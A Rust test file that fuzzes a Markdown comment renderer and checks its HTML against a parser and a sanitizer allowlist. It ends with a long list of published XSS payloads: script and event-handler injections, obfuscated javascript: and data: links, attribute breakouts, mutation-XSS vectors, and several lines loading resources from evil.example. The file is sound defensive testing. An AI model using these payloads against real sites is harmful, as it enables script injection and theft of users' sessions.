//! Whatever is typed, only harmless HTML comes out: held against a real HTML parser.

use std::collections::{HashMap, HashSet};

use afterword::markup::{Rules, plain, render};
use proptest::collection::vec;
use proptest::prelude::*;
use proptest::sample::select;
use scraper::{ElementRef, Html, Node};
use url::Url;

const TEXT: Rules = Rules { images: false };
const TEXT_AND_IMAGES: Rules = Rules { images: true };

#[rustfmt::skip]
const ELEMENTS: [&str; 19] = [
    "a", "blockquote", "br", "code", "del", "em", "hr", "li", "ol", "p", "pre", "strong", "table",
    "tbody", "td", "th", "thead", "tr", "ul",
];

fn assert_harmless(markdown: &str) {
    for rules in [TEXT, TEXT_AND_IMAGES] {
        let html = render(markdown, &rules).html;
        assert_eq!(faults(&html, &rules), [""; 0], "{markdown:?} gave {html}");
        assert_eq!(cleaned(&html), html, "{markdown:?}");
    }
}

fn assert_consistent(markdown: &str) {
    for rules in [TEXT, TEXT_AND_IMAGES] {
        let rendered = render(markdown, &rules);
        let tags = |tag| rendered.html.matches(tag).count();
        assert_eq!(
            rendered.links,
            tags("<a href=") + tags("<img "),
            "{markdown:?}"
        );
        let text = text_of(&rendered.html);
        let readable = text.contains(|c: char| c.is_ascii_graphic());
        assert!(
            !(rendered.is_empty() && readable),
            "{markdown:?} has {text:?}"
        );
    }
    let plain = plain(markdown);
    assert_eq!(
        plain.is_empty(),
        render(markdown, &TEXT).is_empty(),
        "{markdown:?}"
    );
    let harmless = |c: char| c == '\n' || c == '\t' || !c.is_control();
    assert!(plain.chars().all(harmless), "{markdown:?} gave {plain:?}");
}

/// All that is wrong with a comment's HTML, by lists that are written down here once more.
fn faults(html: &str, rules: &Rules) -> Vec<String> {
    let document = Html::parse_fragment(html);
    let mut faults = Vec::new();
    if document.root_element().inner_html() != html {
        faults.push("a browser reads it as something else".to_owned());
    }
    for node in document.root_element().descendants().skip(1) {
        match (node.value(), ElementRef::wrap(node)) {
            (Node::Text(_), _) => {}
            (_, Some(element)) if is_harmless(element, rules) => {}
            (other, _) => faults.push(format!("{other:?}")),
        }
    }
    faults
}

fn is_harmless(element: ElementRef<'_>, rules: &Rules) -> bool {
    let name = element.value().name();
    let mut above = element.ancestors().filter_map(ElementRef::wrap);
    let known = ELEMENTS.contains(&name) || (name == "img" && rules.images);
    let marked = name != "a"
        || element.attr("rel").is_some() && !above.any(|parent| parent.value().name() == "a");
    known
        && marked
        && element
            .value()
            .attrs()
            .all(|(key, value)| is_allowed(name, key, value))
}

fn is_allowed(element: &str, attribute: &str, value: &str) -> bool {
    match (element, attribute) {
        ("a", "href") => leads_to(value, &["http", "https", "mailto"]),
        ("a", "rel") => value == "nofollow ugc noopener",
        ("a" | "img", "title") | ("img", "alt") => true,
        ("img", "src") => leads_to(value, &["http", "https"]),
        ("img", "loading") => value == "lazy",
        ("img", "referrerpolicy") => value == "no-referrer",
        ("code", "class") => value.strip_prefix("language-").is_some_and(|language| {
            let in_names = |c: char| c.is_ascii_alphanumeric() || "_+#-".contains(c);
            !language.is_empty() && language.chars().all(in_names)
        }),
        ("ol", "start") => value.parse::<u32>().is_ok(),
        ("td" | "th", "align") => ["left", "center", "right"].contains(&value),
        _ => false,
    }
}

fn leads_to(address: &str, schemes: &[&str]) -> bool {
    Url::parse(address).is_ok_and(|url| {
        schemes.contains(&url.scheme()) && url.username().is_empty() && url.password().is_none()
    })
}

/// What ammonia leaves of it: the same, or its second reading differs from its first (mutation).
fn cleaned(html: &str) -> String {
    let on = |names: &[&'static str]| names.iter().copied().collect::<HashSet<_>>();
    let mut elements = on(&ELEMENTS);
    elements.insert("img");
    ammonia::Builder::new()
        .tags(elements)
        .generic_attributes(HashSet::new())
        .tag_attributes(HashMap::from([
            ("a", on(&["href", "title"])),
            ("code", on(&["class"])),
            (
                "img",
                on(&["src", "alt", "title", "loading", "referrerpolicy"]),
            ),
            ("ol", on(&["start"])),
            ("td", on(&["align"])),
            ("th", on(&["align"])),
        ]))
        .url_schemes(on(&["http", "https", "mailto"]))
        .link_rel(Some("nofollow ugc noopener"))
        .clean(html)
        .to_string()
}

fn text_of(html: &str) -> String {
    Html::parse_fragment(html).root_element().text().collect()
}

/// What means something to Markdown, to HTML or to a browser.
#[rustfmt::skip]
const PIECES: &[&str] = &[
    "word", " ", "&amp;", "&#8;", "&#x202e;", "&colon;", "\\", "\n", "  \n", "\u{200b}", "é", "*",
    "_", "**", "~~", "`", "``", "[", "]", "(", ")", "![", "](", "<", ">", "|", "\"", "'", ":",
    "<!--", "-->", "<![CDATA[", "]]>", "<?", "<b>", "</b>", "<a href=x>", "<script>", "</p>",
    "<svg onload=x>", "<style>", "</style>", "https://a.example/b", "https://a.example/(c)*d*",
    "http://", "<https://a.example/\"x>", "<a@b.example>", "<javascript:alert(1)>",
    "javascript:alert(1)", "[x]", "[x]: https://a.example\n",
];

#[rustfmt::skip]
const ADDRESSES: &[&str] = &[
    "https://a.example", "mailto:a@b.example", "javascript:alert(1)", "JAVA\tSCRIPT:x", "/a",
    "data:text/html,x", "//a.example", "https://a:b@c.example", "<https://a.example/ b>",
    "https:\\\\a.example", "vbscript:x",
];

fn address() -> impl Strategy<Value = String> {
    prop_oneof![
        select(ADDRESSES).prop_map(str::to_owned),
        "[a-z:/&#;%<>\"' ]{0,12}"
    ]
}

fn inline() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        6 => select(PIECES).prop_map(str::to_owned),
        1 => any::<char>().prop_map(String::from),
    ];
    let leaf = vec(piece, 0..6).prop_map(|pieces| pieces.concat());
    leaf.prop_recursive(5, 40, 4, |inner| {
        let marked = (select(&["*", "**", "~~", "`"][..]), inner.clone());
        prop_oneof![
            vec(inner.clone(), 1..4).prop_map(|parts| parts.concat()),
            marked.prop_map(|(mark, text)| format!("{mark}{text}{mark}")),
            (inner.clone(), address(), ".{0,6}")
                .prop_map(|(text, to, title)| format!("[{text}]({to} \"{title}\")")),
            (inner, address()).prop_map(|(text, to)| format!("![{text}]({to})")),
        ]
    })
}

fn document() -> impl Strategy<Value = String> {
    let leaf = prop_oneof![
        4 => inline(),
        1 => inline().prop_map(|text| format!("## {text}")),
        1 => inline().prop_map(|text| format!("{text}\n---")),
        1 => ("[ -~]{0,12}", inline()).prop_map(|(info, text)| format!("```{info}\n{text}\n```")),
        1 => inline().prop_map(|text| format!("<div>\n{text}\n</div>")),
        1 => (inline(), inline()).prop_map(|(a, b)| format!("|{a}|{b}|\n|:-|-:|\n|{b}|{a}|\n|{a}")),
        1 => address().prop_map(|to| format!("[x]: {to} 'title'")),
    ];
    leaf.prop_recursive(6, 48, 4, |inner| {
        let blocks = (vec(inner.clone(), 1..4), select(&["\n", "\n\n"][..]));
        let margins = select(&[("> ", "> "), ("- ", "  "), ("7. ", "   ")][..]);
        prop_oneof![
            blocks.prop_map(|(blocks, between)| blocks.join(between)),
            (inner, margins).prop_map(|(text, (first, rest))| {
                format!("{first}{}", text.replace('\n', &format!("\n{rest}")))
            }),
        ]
    })
}

/// What stands before each word: up to four openings of quotes, lists, links and emphasis.
fn openings() -> impl Strategy<Value = Vec<String>> {
    let opening = select(
        &[
            "> ", "> > > ", "- ", "1. ", "* ", "*", "**", "(~~", "(`", "[", "![", "(", "\n",
            "\n    ",
        ][..],
    );
    vec(
        vec(opening, 0..5).prop_map(|openings| openings.concat()),
        1..60,
    )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn any_text_gives_harmless_html(text in any::<String>()) {
        assert_harmless(&text);
        assert_consistent(&text);
    }

    #[test]
    fn any_run_of_marks_gives_harmless_html(
        text in "[ \n\t>*_`\\[\\]()!<&;:/\\\\+#|~=\"'a-c0-9.-]{0,200}"
    ) {
        assert_harmless(&text);
        assert_consistent(&text);
    }

    #[test]
    fn any_document_gives_harmless_html(text in document()) {
        assert_harmless(&text);
        assert_consistent(&text);
    }

    #[test]
    fn no_word_is_lost_however_deep_it_stands(openings in openings()) {
        let words = (0..openings.len()).map(|number| format!("w{number}w")).collect::<Vec<_>>();
        let before_each = openings.iter().zip(&words);
        let markdown: String = before_each.map(|(marks, word)| format!("{marks}{word} ")).collect();
        for text in [text_of(&render(&markdown, &TEXT).html), plain(&markdown)] {
            let mut rest = text.as_str();
            for word in &words {
                let found = rest.split_once(word.as_str());
                prop_assert!(found.is_some(), "{word} is missing in {text:?} of {markdown:?}");
                rest = found.map_or("", |(_, after)| after);
            }
        }
    }
}

#[test]
fn published_attacks_give_harmless_html() {
    for attack in ATTACKS {
        assert_harmless(attack);
        assert_consistent(attack);
        // Quotes, list items, cells and emphasis are where parsers had their gaps.
        let line = attack.replace('\n', " ");
        assert_harmless(&format!("> {line}\n\n- a\n- {line}"));
        assert_harmless(&format!("*{line}*\n\n|a|\n|-|\n|{line}|"));
    }
}

#[test]
fn bombs_of_nesting_give_harmless_html_and_no_overflow() {
    for mark in [
        "> ", ">", "- ", "1. ", "* ", "*a ", "**a ", "_a ", "~~a ", "[", "![", "[a](", "`", "<b>",
        "> - ", "\\", "&",
    ] {
        for times in [17, 5_000] {
            let bomb = format!("{}a", mark.repeat(times));
            assert_harmless(&bomb);
            assert_consistent(&bomb);
        }
    }
}

/// Of each class that has been published, in the order in which they are met on the way from
/// Markdown to a page.
#[rustfmt::skip]
const ATTACKS: &[&str] = &[
    // raw elements and handlers
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/xss src=//evil.example>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><set attributeName=href to=javascript:alert(1)></set><text y=9>x</text></a></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<x onclick=alert(1)>click</x>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "<a\tonmouseover\t=\talert(1)>x",
    "**<b onmouseover=alert(1)>x</b>**",
    // schemes and their disguises
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&NewLine;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](\u{a0}javascript:alert(1))",
    "[x](java\0script:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript://a.example/%0aalert(1))",
    "[x](javascript:window.onerror=alert;throw%20document.cookie)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](jar:https://evil.example!/x)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](intent://a.example#Intent;scheme=javascript;end)",
    "<javascript:alert(1)>",
    "<javascript&colon;alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]: (javascript:alert(1))\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](https://user:javascript@evil.example)",
    // ways out of attributes
    "[x](https://a.example \"\\\" onclick=alert(1) \\\"\")",
    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
    "[x](<https://a.example/\"onclick=\"alert(1)>)",
    "[x](https://a.example/'onclick='alert(1))",
    "![\"onerror=\"alert(1)](https://a.example)",
    "![x](https://a.example/x.png\"onerror=\"alert(1))",
    "![`\"><script>alert(1)</script>`](https://a.example)",
    "![![\"onerror=alert(1) x](https://a.example)](https://b.example)",
    "https://a.example/\"onmouseover=alert(1)",
    "https://a.example/'><script>alert(1)</script>",
    "<https://a.example/\"onclick=alert(1)//>",
    "<https://a.example/<script>alert(1)</script>>",
    "<\"onclick=alert(1)\"@a.example>",
    "[x](mailto:a@b.example\"onclick=alert(1))",
    "[https://a.example](https://b.example/\"><img/src/onerror=alert(1)>)",
    // ways out of code
    "```\"><script>alert(1)</script>\nx\n```",
    "``` x\" onclick=\"alert(1)\nx\n```",
    "```x\n</code></pre><script>alert(1)</script>\n```",
    "~~~ language-x class=y id=z\nx\n~~~",
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    // confusions of Markdown parsers
    "[a <b](https://a.example) onclick=alert(1)>",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[x](https://a.example/[y](https://b.example/onclick=alert(1)))",
    "[![x](https://a.example \"`<p>`\")](https://b.example \"`</p><script>alert(1)</script>`\")",
    "<b <script>alert(1)//</b>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!ENTITY x \"><script>alert(1)</script>\">",
    "\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "_[x_](https://a.example)**<script>**alert(1)",
    "| <script> | </td><script>alert(1)</script> |\n|-|-|\n| `|` <svg/onload=alert(1)> | x |",
    // mutation
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style></math><img src onerror=alert(1)></style>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror=alert(1) src>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<table><td><a href=\"</table><script>alert(1)</script>\">",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<plaintext><script>alert(1)</script>",
    // clobbering, style, frames and forms
    "<a id=config name=config href=https://evil.example>x</a>",
    "<form id=document><input name=cookie></form>",
    "<p style=\"position:fixed;inset:0;background:url(javascript:alert(1))\">x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=https://evil.example/>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input type=password><button formaction=javascript:alert(1)>x</button></form>",
    "# x {#id .class onclick=alert(1)}",
    // encodings
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<\0script>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u{202e}<script>alert(1)</script>",
    "<img src=`x` onerror=`alert(1)`>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</sCript/--!>\\x3csVg/<sVg/oNloAd=alert()//>",
];
